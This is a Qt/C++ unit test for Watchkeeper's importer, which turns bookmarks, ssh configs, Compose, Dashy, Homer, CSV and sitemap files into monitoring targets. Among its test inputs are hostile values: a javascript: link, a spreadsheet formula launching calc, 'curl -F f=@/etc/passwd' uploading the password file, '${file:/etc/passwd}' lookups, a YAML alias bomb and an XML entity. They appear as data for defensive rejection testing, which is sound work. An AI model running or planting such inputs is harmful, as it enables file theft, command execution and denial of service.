// SPDX-FileCopyrightText: 2026 Watchkeeper contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "ImportRows.h"

#include <QElapsedTimer>

namespace ListsImportTest {

using namespace ImportRows;
using namespace Qt::StringLiterals;
using namespace watchkeeper;

ImportContext testContext()
{
    ImportContext context;
    context.environment.insert(u"PORT"_s, u"8080"_s);
    context.environment.insert(u"EMPTY"_s, QString());
    return context;
}

class tst_ListsImport : public QObject
{
    Q_OBJECT

private slots:
    void converts_data()
    {
        addColumns();
        QTest::addColumn<QString>("format");
        const auto row = [](const char *name, const char *format, const char *content, const char *expected) {
            addRow(name, content, expected) << QString::fromLatin1(format);
        };
        row("HTML bookmarks", "bookmarks",
            "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n<DT><H3>Our Team</H3>\n<DL><p>\n"
            "<DT><A HREF=\"https://a.example/x?a=1&amp;b=2\" ICON=\"data:image/png;base64,AA\">Wiki</A>\n"
            "<DT><A HREF=\"javascript:alert(1)\">No</A>\n</DL><p>\n</DL>\n",
            "{'kind':'http','name':'Wiki','tags':['our-team'],'url':'https://a.example/x?a=1&b=2'}\n"
            "notSupported f:6 “javascript:alert(1)” wasn't imported, because it isn't the address of a server.");
        row("Chromium bookmarks", "bookmarks",
            "{\"roots\": {\"bookmark_bar\": {\"type\": \"folder\", \"name\": \"Bar\", \"children\": [\n"
            " {\"type\": \"url\", \"name\": \"Top \\ud83d\\ude00\", \"url\": \"https://a.example/\"},\n"
            " {\"type\": \"folder\", \"name\": \"Work\", \"children\": [{\"type\": \"url\", \"name\": \"In\", \"url\": "
            "\"https://b.example/\"}]}]}}}",
            "{'kind':'http','name':'Top 😀','url':'https://a.example/'}\n"
            "{'kind':'http','name':'In','tags':['work'],'url':'https://b.example/'}");
        row("Firefox bookmarks", "bookmarks",
            "{\"type\": \"text/x-moz-place-container\", \"root\": \"placesRoot\", \"children\": [\n"
            " {\"title\": \"menu\", \"root\": \"bookmarksMenuFolder\", \"children\": [\n"
            "  {\"title\": \"A\", \"type\": \"text/x-moz-place\", \"uri\": \"https://a.example/\"},\n"
            "  {\"title\": \"Query\", \"uri\": \"place:sort=8\"},\n"
            "  {\"title\": \"Dev\", \"children\": [{\"title\": \"B\", \"uri\": \"https://b.example/\"}]}]}]}",
            "{'kind':'http','name':'A','url':'https://a.example/'}\n"
            "{'kind':'http','name':'B','tags':['dev'],'url':'https://b.example/'}");
        row("ssh: the first value wins", "ssh",
            "Host web\n  HostName 192.0.2.1\n  Port 2222\nHost w* !other\n  HostName 192.0.2.9\n  AddressFamily inet6\n  User "
            "me\n"
            "Host other\n  HostName %h.example\nHost *\n  Port 22022\n  ConnectTimeout=7 # s\n",
            "{'host':'192.0.2.1','ipFamily':'ipv6','kind':'ssh','name':'web','port':2222,'timeout':'7s'}\n"
            "{'host':'other.example','kind':'ssh','name':'other','port':22022,'timeout':'7s'}\n"
            "notSupported f:7 Watchkeeper has no setting for “User”.");
        row("tags of Firefox were dropped", "bookmarks",
            "{\"type\": \"text/x-moz-place-container\", \"root\": \"placesRoot\", \"children\": [{\"title\": \"menu\", "
            "\"root\": "
            "\"bookmarksMenuFolder\", \"children\": [\n"
            "  {\"title\": \"A\", \"uri\": \"https://a.example/\", \"tags\": \"shop,my page\"}]}]}",
            "{'kind':'http','name':'A','tags':['shop','my-page'],'url':'https://a.example/'}");
        row("ssh: jumps and blocks", "ssh",
            "Include config.d/*\nPort 24\nHost a \"b\"\n ProxyJump gate\nHost c\n ProxyCommand none\nMatch exec true\n Port "
            "9\n",
            "{'host':'a','kind':'ssh','name':'a','paused':true,'port':24}\n"
            "{'host':'b','kind':'ssh','name':'b','paused':true,'port':24}\n"
            "{'host':'c','kind':'ssh','name':'c','port':24}\n"
            "notSupported f:1 config.d/* wasn't read. Also choose this file.\n"
            "notSupported f:7 Watchkeeper has no setting for “Match exec true”.\n"
            "changed f:4 The target is paused. ssh reaches it through “gate”, but Watchkeeper connects directly.\n"
            "changed f:4 The target is paused. ssh reaches it through “gate”, but Watchkeeper connects directly.");
        row("ssh: hosts in other files", "ssh",
            "== config\nInclude config.d/* ~/own\nHost *\n ControlMaster auto\n== home\nHost a\n Port 24\n",
            "{'host':'a','kind':'ssh','name':'a','port':24}\n"
            "notSupported config:1 ~/own wasn't read. Also choose this file.\n"
            "notSupported config:3 Watchkeeper has no setting for “ControlMaster”.");
        row("searches that Firefox adds", "bookmarks",
            "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n<DT><A HREF=\"place:type=6&sort=14\">Recent Tags</A>\n"
            "<DT><A HREF=\"https://a.example/\">A</A>\n<DT><A HREF=\"https://a.example/\">A</A>\n</DL>\n",
            "{'kind':'http','name':'A','url':'https://a.example/'}\n"
            "notSupported f:5 “A” wasn't imported, because the files define it twice.");
        row("Homepage fills in variables before it reads YAML", "homepage",
            "- Media:\n    - A:\n        href: {{HOMEPAGE_VAR_URL}}/x # here\n        widget:\n          key: "
            "{{HOMEPAGE_VAR_KEY}}\n    - B:\n        href: 'http://b.example'\n        widget:\n          - key: "
            "{{HOMEPAGE_FILE_KEY}}\n",
            "{'kind':'http','name':'A','tags':['Media'],'url':'${env:HOMEPAGE_VAR_URL}/x'}\n"
            "{'kind':'http','name':'B','tags':['Media'],'url':'http://b.example'}\n"
            "notSupported f:5: A.widget Watchkeeper has no setting for “widget”.");
        row("Homer: links without a scheme, or without a link", "homer",
            "services:\n  - name: Apps\n    items:\n      - name: Mail\n        url: //mail.example/x\n      - name: Chat\n",
            "{'kind':'http','name':'Mail','tags':['Apps'],'url':'https://mail.example/x'}\n"
            "notSupported f:6: Apps “Chat” wasn't imported, because it has no address.");
        row("Compose: variables in .env", "compose",
            "== .env\n# ports\nWEB = 81 # of the page\nexport DB='5433'\nPORT=9\n"
            "== compose.yaml\nservices:\n  a:\n    image: x\n    ports: ['${WEB}:80', '${DB}:5432', '${PORT}:1']\n",
            "{'host':'127.0.0.1','kind':'tcp','name':'a:81','port':81}\n"
            "{'host':'127.0.0.1','kind':'tcp','name':'a:5433','port':5433}\n"
            "{'host':'127.0.0.1','kind':'tcp','name':'a:8080','port':8080}");
        row("Compose: networks of others", "compose",
            "services:\n  a:\n    image: x\n    network_mode: host\n  b:\n    image: x\n    network_mode: 'service:c'\n"
            "  c:\n    image: x\n    ports: ['80:80', '${NO_PORT}:53/udp']\n",
            "{'host':'127.0.0.1','kind':'tcp','name':'c','port':80}\n"
            "notSupported f:4: services.a.network_mode Watchkeeper has no setting for “network_mode: host”.\n"
            "notSupported f:7: services.b.network_mode Watchkeeper has no setting for “network_mode: service:c”.\n"
            "changed f:10: c.ports The value is read from the environment variable NO_PORT. Set it.\n"
            "notSupported f:10: c.ports Watchkeeper has no setting for “${NO_PORT}:53/udp”.");
        row("Compose: ports that aren't imported, but published", "compose",
            "services:\n  a:\n    image: x\n    ports: ['${NONE}:${NONE}']\n  b:\n    image: x\n    ports: ['80:${NONE}']\n"
            "  c:\n    image: x\n    ports: ['53:53/udp']\n",
            "changed f:4: a.ports The value is read from the environment variable NONE. Set it.\n"
            "notSupported f:4: a.ports Port ${NONE}:${NONE} of “a” wasn't imported, because its port on this computer isn't "
            "known.\n"
            "notSupported f:7: b.ports “80:${NONE}” wasn't imported, because it isn't the address of a server.\n"
            "notSupported f:10: c.ports Watchkeeper has no setting for “53:53/udp”.");
        row("Compose: health checks without a scheme, by Python, without a port", "compose",
            "services:\n  a:\n    image: x\n    ports: ['81:80']\n    healthcheck: {test: 'wget -q localhost/ok || exit 1'}\n"
            "  b:\n    image: x\n    ports: ['82:80']\n    healthcheck: {test: 'wget -q localhost.example'}\n"
            "  c:\n    image: x\n    ports: ['83:8000']\n    healthcheck:\n      test: [CMD, python, -c, "
            "\"urlopen('http://127.0.0.1:8000/ok')\"]\n  d:\n    image: x\n    healthcheck: {test: pg_isready}\n",
            "{'kind':'http','name':'a','url':'http://127.0.0.1:81/ok'}\n"
            "{'host':'127.0.0.1','kind':'tcp','name':'b','port':82}\n"
            "{'kind':'http','name':'c','url':'http://127.0.0.1:83/ok'}\n"
            "notSupported f:9: services.b.healthcheck.test Watchkeeper has no setting for “healthcheck”.\n"
            "notSupported f:16: services.d The service “d” publishes no port, so it can't be reached from this computer.");
        row("CSV without a header row", "csv",
            "== a.csv\n1,Shop,shop.example,\n2,Mail,mail.example\n== b.csv\na.example\n"
            "== c.csv\n\nhttps://b.example/x\t30\n",
            "{'kind':'http','name':'Shop','url':'https://shop.example/'}\n"
            "{'kind':'http','name':'Mail','url':'https://mail.example/'}\n"
            "{'kind':'http','name':'a.example','url':'https://a.example/'}\n"
            "{'kind':'http','name':'b.example/x','url':'https://b.example/x'}\n"
            "notSupported a.csv:1 Watchkeeper has no setting for “1”.\n"
            "notSupported c.csv:2 Watchkeeper has no setting for “30”.");
        row("CSV: IP addresses", "csv",
            "name,ip,type,port\nA,192.0.2.1,,\n,192.0.2.2,,\nC,2001:db8::1,,\nD,2001:db8::2,ping,\nE,192.0.2.3,http,\n"
            "F,192.0.2.4,,22\nG,2001:db8::3,,22\n",
            "{'host':'192.0.2.1','kind':'ping','name':'A'}\n"
            "{'host':'192.0.2.2','kind':'ping','name':'192.0.2.2'}\n"
            "{'host':'2001:db8::1','kind':'ping','name':'C'}\n"
            "{'host':'2001:db8::2','kind':'ping','name':'D'}\n"
            "{'kind':'http','name':'E','url':'https://192.0.2.3/'}\n"
            "{'host':'192.0.2.4','kind':'tcp','name':'F','port':22}\n"
            "{'host':'2001:db8::3','kind':'tcp','name':'G','port':22}");
        row("CSV with a column without a name", "csv", "url,,\nhttps://a.example,1,2\n",
            "{'kind':'http','name':'a.example','url':'https://a.example'}");
        row("Chromium bookmarks in the trash", "bookmarks",
            "{\"roots\": {\"bookmark_bar\": {\"children\": [{\"name\": \"A\", \"url\": \"https://a.example/\"}]},\n"
            "\"trash\": {\"children\": [{\"name\": \"B\", \"url\": \"https://b.example/\"}]}}}",
            "{'kind':'http','name':'A','url':'https://a.example/'}");
        row("CSV: enabled", "csv",
            "enabled,url\nyes,https://a.example\nNo,https://b.example\n0,https://c.example\n,https://d.example\n",
            "{'kind':'http','name':'a.example','url':'https://a.example'}\n"
            "{'kind':'http','name':'b.example','paused':true,'url':'https://b.example'}\n"
            "{'kind':'http','name':'c.example','paused':true,'url':'https://c.example'}\n"
            "{'kind':'http','name':'d.example','url':'https://d.example'}");
        row("CSV: one column", "csv", "URLs\r\nhttps://a.example\r\nhttps://b.example/?a=1\r\n",
            "{'kind':'http','name':'a.example','url':'https://a.example'}\n"
            "{'kind':'http','name':'b.example','url':'https://b.example/?a=1'}");
        row("Homepage services", "homepage",
            "- Media:\n    - Films:\n        href: https://films.example\n        siteMonitor: http://films:8096\n        "
            "icon: x.png\n"
            "        widget: {type: y}\n    - NAS:\n        ping: nas.example\n    - Deep:\n        - Inner:\n            "
            "href: "
            "'{{HOMEPAGE_VAR_URL}}/x'\n",
            "{'accept':'200-403','kind':'http','name':'Films','tags':['Media'],'url':'http://films:8096'}\n"
            "{'host':'nas.example','kind':'ping','name':'NAS','tags':['Media']}\n"
            "{'kind':'http','name':'Inner','tags':['Media','Deep'],'url':'${env:HOMEPAGE_VAR_URL}/x'}\n"
            "notSupported f:6: Films.widget Watchkeeper has no setting for “widget”.");
        row("Homepage bookmarks", "homepage",
            "- Dev:\n    - Forge:\n        - abbr: F\n          href: https://forge.example/\n",
            "{'kind':'http','name':'Forge','tags':['Dev'],'url':'https://forge.example/'}");
        row("Homer", "homer",
            "title: x\nservices:\n  - name: Apps\n    items:\n      - name: Mail\n        url: https://mail.example\n        "
            "type: Ping\n"
            "      - name: Local\n        url: '#'\n",
            "{'kind':'http','name':'Mail','tags':['Apps'],'url':'https://mail.example'}\n"
            "notSupported f:7: Apps.type Watchkeeper has no setting for “type”.\n"
            "notSupported f:8: Apps “#” wasn't imported, because it isn't the address of a server.");
        row("Dashy", "dashy",
            "appConfig: {statusCheckInterval: 120}\nsections:\n  - name: Net\n    items:\n      - title: Router\n        url: "
            "https://r.example\n        statusCheckUrl: https://r.example/health\n        statusCheckAllowInsecure: true\n     "
            "   "
            "statusCheckAcceptCodes: '403,418'\n        statusCheckMaxRedirects: 0\n        statusCheckHeaders: {X-A: "
            "'${file:/x}'}\n"
            "        tags: [core]\n",
            "{'accept':'200-299,403,418','every':'2m','followRedirects':false,'headers':{'X-A':'$${file:/"
            "x}'},'kind':'http','name':"
            "'Router','tags':['Net','core'],'url':'https://r.example/health','verifyTls':false}");
        row("Dashy: settings of all items", "dashy",
            "appConfig:\n  theme: dark\n  statusCheck: false\n  statusCheckAccessibility: true\n  statusCheckInterval: 0\n"
            "  statusCheckTimeout: 9\nsections:\n  - name: Net\n    items:\n"
            "      - {title: A, url: 'https://a.example'}\n      - {title: B, url: 'https://b.example', statusCheck: true}\n",
            "{'kind':'http','name':'A','paused':true,'tags':['Net'],'url':'https://a.example'}\n"
            "{'kind':'http','name':'B','tags':['Net'],'url':'https://b.example'}\n"
            "notSupported f:6: appConfig.statusCheckTimeout Watchkeeper has no setting for “statusCheckTimeout”.");
        row("Dashy: settings of one item", "dashy",
            "appConfig: {statusCheck: true, statusCheckInterval: 120}\nsections:\n  - name: Net\n    items:\n"
            "      - {title: A, url: 'https://a.example', statusCheck: false, statusCheckInterval: 30}\n",
            "{'every':'30s','kind':'http','name':'A','paused':true,'tags':['Net'],'url':'https://a.example'}");
        row("Dashy: pings weren't imported", "dashy",
            "appConfig: {pingCheckEnabled: true, pingCheckCount: 2, pingCheckTimeout: 2000, pingCheckInterval: 8}\nsections:\n"
            "  - name: Net\n    items:\n      - {title: DNS, pingCheckHost: 192.0.2.1, pingCheckCount: 3, pingCheckTimeout: "
            "3000, tags: [a]}\n      - {title: Gate, pingCheckHost: gate.example}\n      - {title: Web, url: "
            "https://a.example, pingCheckHost: a.example}\n",
            "{'count':3,'every':'8s','host':'192.0.2.1','kind':'ping','name':'DNS','tags':['Net','a'],'timeout':'3s'}\n"
            "{'count':2,'every':'8s','host':'gate.example','kind':'ping','name':'Gate','tags':['Net'],'timeout':'2s'}\n"
            "{'kind':'http','name':'Web','tags':['Net'],'url':'https://a.example'}\n"
            "notSupported f:1: appConfig.pingCheckEnabled Watchkeeper has no setting for “pingCheckEnabled”.\n"
            "notSupported f:7: Net.pingCheckHost Watchkeeper has no setting for “pingCheckHost”.");
        row("Compose: ports that nobody knows were dropped", "compose",
            "services:\n  a:\n    image: x\n    ports: [3000, '3001-3005', '8000:80', {target: 9}]\n  b:\n    image: x\n    "
            "ports: ['${PORT_OF_B}:80', '${PORT_OF_B}']\n",
            "{'host':'127.0.0.1','kind':'tcp','name':'a','port':8000}\n"
            "notSupported f:4: a.ports Port 3000 of “a” wasn't imported, because its port on this computer isn't known.\n"
            "notSupported f:4: a.ports Port 3001-3005 of “a” wasn't imported, because its port on this computer isn't known.\n"
            "notSupported f:4: a.ports Port 9 of “a” wasn't imported, because its port on this computer isn't known.\n"
            "changed f:7: b.ports The value is read from the environment variable PORT_OF_B. Set it.\n"
            "notSupported f:7: b.ports Port 80 of “b” wasn't imported, because its port on this computer isn't known.\n"
            "notSupported f:7: b.ports Port ${PORT_OF_B} of “b” wasn't imported, because its port on this computer isn't "
            "known.");
        row("Compose: ports", "compose",
            "name: shop\nservices:\n  web:\n    image: nginx\n    ports:\n      - \"${PORT}:80\"\n      - "
            "192.0.2.5:9000-9001:90-91\n"
            "      - '3000'\n      - '53:53/udp'\n      - {target: 443, published: \"${NONE:-8443}\", host_ip: '::1'}\n"
            "  db:\n    image: postgres\n",
            "{'host':'127.0.0.1','kind':'tcp','name':'web:8080','port':8080,'tags':['shop']}\n"
            "{'host':'192.0.2.5','kind':'tcp','name':'web:9000','port':9000,'tags':['shop']}\n"
            "{'host':'192.0.2.5','kind':'tcp','name':'web:9001','port':9001,'tags':['shop']}\n"
            "{'host':'::1','kind':'tcp','name':'web:8443','port':8443,'tags':['shop']}\n"
            "notSupported f:8: web.ports Port 3000 of “web” wasn't imported, because its port on this computer isn't known.\n"
            "notSupported f:9: web.ports Watchkeeper has no setting for “53:53/udp”.\n"
            "notSupported f:12: services.db The service “db” publishes no port, so it can't be reached from this computer.");
        row("Compose: variables", "compose",
            "services:\n  a:\n    image: x\n    ports: ['${MISSING}:1', '${EMPTY:-71}:1', '${EMPTY-72}:2', '${PORT:+73}:3']\n",
            "{'host':'127.0.0.1','kind':'tcp','name':'a:71','port':71}\n"
            "{'host':'127.0.0.1','kind':'tcp','name':'a:73','port':73}\n"
            "changed f:4: a.ports The value is read from the environment variable MISSING. Set it.\n"
            "notSupported f:4: a.ports Port 1 of “a” wasn't imported, because its port on this computer isn't known.\n"
            "notSupported f:4: a.ports Port 2 of “a” wasn't imported, because its port on this computer isn't known.");
        row("Compose: health checks", "compose",
            "services:\n  api:\n    image: x\n    ports: ['8081:80']\n    healthcheck:\n      test: [CMD, curl, -f, "
            "'http://localhost/health']\n      interval: 1m30s\n      timeout: 5s\n      retries: 4\n  db:\n    image: x\n    "
            "ports: "
            "['5432:5432']\n    healthcheck: {test: pg_isready}\n",
            "{'accept':'200-399','attempts':4,'every':'90s','followRedirects':false,'kind':'http','name':'api','timeout':'5s','"
            "url':"
            "'http://127.0.0.1:8081/health'}\n"
            "{'host':'127.0.0.1','kind':'tcp','name':'db','port':5432}\n"
            "notSupported f:13: services.db.healthcheck.test Watchkeeper has no setting for “healthcheck”.");
        row("Compose: AutoKuma", "compose",
            "services:\n  a:\n    image: x\n    ports: ['1:1']\n    container_name: web\n    labels:\n"
            "      kuma.all.group.name: All\n"
            "      kuma.{{container_name}}.http.name: '{{container_name}} page'\n"
            "      kuma.{{container_name}}.http.url: https://a.example/x\n"
            "      kuma.{{container_name}}.http.parent_name: all\n"
            "      kuma.{{container_name}}.http.interval: 60\n"
            "      kuma.{{container_name}}.http.max_retries: 2\n"
            "  b:\n    image: x\n    ports: ['2:2']\n    labels:\n"
            "      - kuma.b.http.url=http://{{container_name}}:8080\n      - 'kuma.c.http.name=No address'\n",
            "{'host':'127.0.0.1','kind':'tcp','name':'a','port':1}\n"
            "{'every':'1m','kind':'http','name':'web page','tags':['all'],'url':'https://a.example/x'}\n"
            "{'host':'127.0.0.1','kind':'tcp','name':'b','port':2}\n"
            "notSupported f:7: a.labels Watchkeeper has no setting for “kuma.all.group.name”.\n"
            "notSupported f:12: a.labels Watchkeeper has no setting for “kuma.{{container_name}}.http.max_retries”.\n"
            "notSupported f:17: b.labels “http://{{container_name}}:8080” wasn't imported, because it isn't the address of a "
            "server.\n"
            "notSupported f:18: b.labels “No address” wasn't imported, because it has no address.");
        row("Compose: labels with a variable without a value", "compose",
            "services:\n  a:\n    image: x\n    ports: ['1:1']\n    labels:\n"
            "      traefik.http.routers.t.rule: Host(`a.${NO_DOMAIN}`)\n      kuma.b.http.url: https://b.$NO_DOMAIN/x\n",
            "{'host':'127.0.0.1','kind':'tcp','name':'a','port':1}\n"
            "changed f:6: a.labels The value is read from the environment variable NO_DOMAIN. Set it.\n"
            "notSupported f:6: a.labels “http://a.${NO_DOMAIN}” wasn't imported, because it isn't the address of a server.\n"
            "notSupported f:7: a.labels “https://b.$NO_DOMAIN/x” wasn't imported, because it isn't the address of a server.");
        row("Compose: Traefik", "compose",
            "services:\n  web:\n    image: x\n    ports: ['1:1']\n    labels:\n      - "
            "'traefik.http.routers.w.rule=Host(`a.example`) && PathPrefix(`/app`)'\n      - "
            "traefik.http.routers.w.tls.certresolver=le\n  two:\n    image: x\n    ports: ['2:2']\n    labels:\n      "
            "traefik.http.routers.t.rule: HostRegexp(`.*`)\n",
            "{'host':'127.0.0.1','kind':'tcp','name':'web','port':1}\n"
            "{'kind':'http','name':'web 2','url':'https://a.example/app'}\n"
            "{'host':'127.0.0.1','kind':'tcp','name':'two','port':2}\n"
            "notSupported f:12: two.labels Watchkeeper has no setting for “HostRegexp(`.*`)”.");
        row("sitemap", "sitemap",
            "<?xml version=\"1.0\"?>\n<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\" xmlns:image=\"i\">\n"
            "<url><loc>\n https://a.example/?a=1&amp;b=2 </loc><image:image><image:loc>https://c.example/p.png</image:loc>"
            "</image:image></url></urlset>",
            "{'kind':'http','name':'a.example','url':'https://a.example/?a=1&b=2'}");
        row("list of sitemaps", "sitemap",
            "<sitemapindex>\n<sitemap><loc>https://a.example/1.xml</loc></sitemap></sitemapindex>",
            "notSupported f:1 The sitemaps in the list weren't imported. Save and import "
            "them.");
        row("CSV", "csv",
            "sep=;\nFriendly Name;URL/IP;Type;Port;Interval;Tags;Colour\nShop;https://a.example;HTTP(s);;300;a|b;red\n"
            "\"Mail, \"\"new\"\"\";mail.example;port;25;2 "
            "min;;\nDB;db.example;postgres;;;;\nX;x.example;heartbeat;;;;\n;;;;;;\n"
            "Bad;y.example;ping;;soon;;\n",
            "{'every':'5m','kind':'http','name':'Shop','tags':['a','b'],'url':'https://a.example'}\n"
            "{'every':'2m','host':'mail.example','kind':'tcp','name':'Mail, \\'new\\'','port':25}\n"
            "{'host':'db.example','kind':'postgresql','name':'DB'}\n"
            "{'host':'y.example','kind':'ping','name':'Bad'}\n"
            "notSupported f:2 Watchkeeper has no setting for “Colour”.\n"
            "notSupported f:6 “X” wasn't imported, because Watchkeeper has no check of the type “heartbeat”.\n"
            "notSupported f:8 Watchkeeper has no setting for “soon”.");
        row("CSV: commands and formulas", "csv",
            "name,url,tags\n=cmd|' /C calc'!A0,https://a.example,@sum\nx,curl -F f=@/etc/passwd https://b.example,\n"
            "y,${file:/etc/passwd},\nz,=1+1,\nw,https://a.example/${file:/etc/passwd},\nv,/bin/sh,\n",
            "{'kind':'http','name':'cmd|' /C calc'!A0','tags':['sum'],'url':'https://a.example'}\n"
            "{'kind':'http','name':'w','url':'https://a.example/$${file:/etc/passwd}'}\n"
            "notSupported f:3 “curl -F f=@/etc/passwd https://b.example” wasn't imported, because it isn't the address of a "
            "server.\n"
            "notSupported f:4 “${file:/etc/passwd}” wasn't imported, because it isn't the address of a server.\n"
            "notSupported f:5 “=1+1” wasn't imported, because it isn't the address of a server.\n"
            "notSupported f:7 “/bin/sh” wasn't imported, because it isn't the address of a server.");
    }
    void converts()
    {
        QFETCH(QByteArray, files);
        QFETCH(QString, format);
        QTEST(imported(filesOf(files), format, testContext()), "expected");
    }

    void rejects_data()
    {
        QTest::addColumn<QString>("format");
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("says");
        const auto row = [](const char *name, const char *format, const QByteArray &content, const char *says) {
            QTest::newRow(name) << QString::fromLatin1(format) << content << QString::fromUtf8(says);
        };
        const QByteArray bomb =
            "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
            "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n";
        row("YAML bomb", "compose", bomb, "f:6: The file has too many values");
        row("deep", "homepage", QByteArray(1'000, '['), "f:");
        row("duplicate keys", "dashy", "sections: []\nsections: []\n", "f:2: The key “sections” appears twice.");
        row("null character", "homer", QByteArray("services:\n\0", 11), "f: The file contains null characters");
        row("null character in CSV", "csv", QByteArray("name,url\nx,\0\n", 13), "f contains null characters");
        row("null character for ssh", "ssh", QByteArray("Host a\n\0", 8), "f contains null characters");
        row("XML with entities", "sitemap", "<!DOCTYPE u [<!ENTITY a \"aa\">]>\n<urlset><url><loc>&a;</loc></url></urlset>",
            "f:1: This isn't a valid sitemap: DOCTYPE");
        row("broken XML", "sitemap", "<urlset>\n<url></urlset>", "f:2: This isn't a valid sitemap");
        row("broken JSON", "bookmarks", "{\n\"roots\": \n}", "f:3");
        row("many rows", "csv", "name,url\n" + QByteArray("x,https://a.example\n").repeated(300'000), "more than 5000 rows");
        row("many hosts", "ssh",
            "Host" + QByteArray(" a").repeated(1'000) + '\n' + QByteArray("Host b c d e f\n").repeated(2'000),
            "more than 5000 entries");
        row("many ports", "compose",
            "services:\n  a:\n    ports: [" + QByteArray("'1000-1099:1000-1099',").repeated(100) + "]\n",
            "more than 5000 entries");
        row("open links", "bookmarks", "<!DOCTYPE NETSCAPE-Bookmark-file-1>" + QByteArray("<a href=x>").repeated(300'000),
            "isn't a file of bookmarks");
        row("open tags", "bookmarks", "<!DOCTYPE NETSCAPE-Bookmark-file-1>" + QByteArray("<a ").repeated(500'000),
            "isn't a file of bookmarks");
        row("nothing", "compose", "services: {}\n", "contain nothing");
    }
    void rejects()
    {
        QFETCH(QString, format);
        QFETCH(QByteArray, content);
        QFETCH(QString, says);
        QElapsedTimer timer;
        timer.start();
        const auto imported = findImportFormat(format)->import({file(u"f"_s, content)}, testContext());
        QVERIFY(!imported);
        QVERIFY2(imported.error().contains(says), qPrintable(imported.error()));
        QVERIFY2(timer.elapsed() < 30'000, qPrintable(QString::number(timer.elapsed())));
    }

    void stopsAtTheLimitOfPages()
    {
        QByteArray pages;
        for (int i = 0; i < 501; ++i)
            pages += "<url><loc>https://a.example/" + QByteArray::number(i) + "</loc></url>\n";
        const auto imported = importSitemap({file(u"f"_s, "<urlset>" + pages + "</urlset>")}, {});
        QVERIFY(imported);
        QCOMPARE(imported->targets.size(), 500);
        QCOMPARE(imported->remarks.size(), 1);
        QVERIFY(imported->remarks.first().text.contains(u"first 500 pages"_s));
        QCOMPARE(imported->remarks.first().place.line, 501);
    }

    void detectsOnlyItsOwn_data()
    {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("format");
        QTest::newRow("Prometheus targets") << QByteArray("- targets: [a]\n  labels: {job: x}\n") << u"prometheus"_s;
        QTest::newRow("Gatus") << QByteArray("endpoints:\n  - name: a\n    url: b\n") << u"gatus"_s;
        QTest::newRow("text") << QByteArray("https://a.example\nhttps://b.example\n") << QString();
        QTest::newRow("a table without addresses") << QByteArray("name,price\na,1\n") << QString();
        QTest::newRow("JSON") << QByteArray("{\"a\": [1, 2]}") << QString();
        QTest::newRow("HTML") << QByteArray("<html><a href='https://a.example'>a</a></html>") << QString();
        QTest::newRow("database") << QByteArray() << QString();
    }
    void detectsOnlyItsOwn()
    {
        QFETCH(QByteArray, content);
        const ImportFormat *found = detectImportFormat({file(u"f"_s, content)});
        QTEST(found ? QString::fromLatin1(found->key) : QString(), "format");
    }

    void detectsTablesWithoutHeaderByTheirName()
    {
        QVERIFY(detectImportFormat({file(u"list.csv"_s, "Shop,https://a.example\n")}));
        QVERIFY(!detectImportFormat({file(u"list.csv"_s, "Shop,7\n")}));
        QVERIFY(!detectImportFormat({file(u"list.txt"_s, "Shop,https://a.example\n")}));
    }
};

QTEST_GUILESS_MAIN(tst_ListsImport)

} // namespace ListsImportTest

#include "tst_ListsImport.moc"
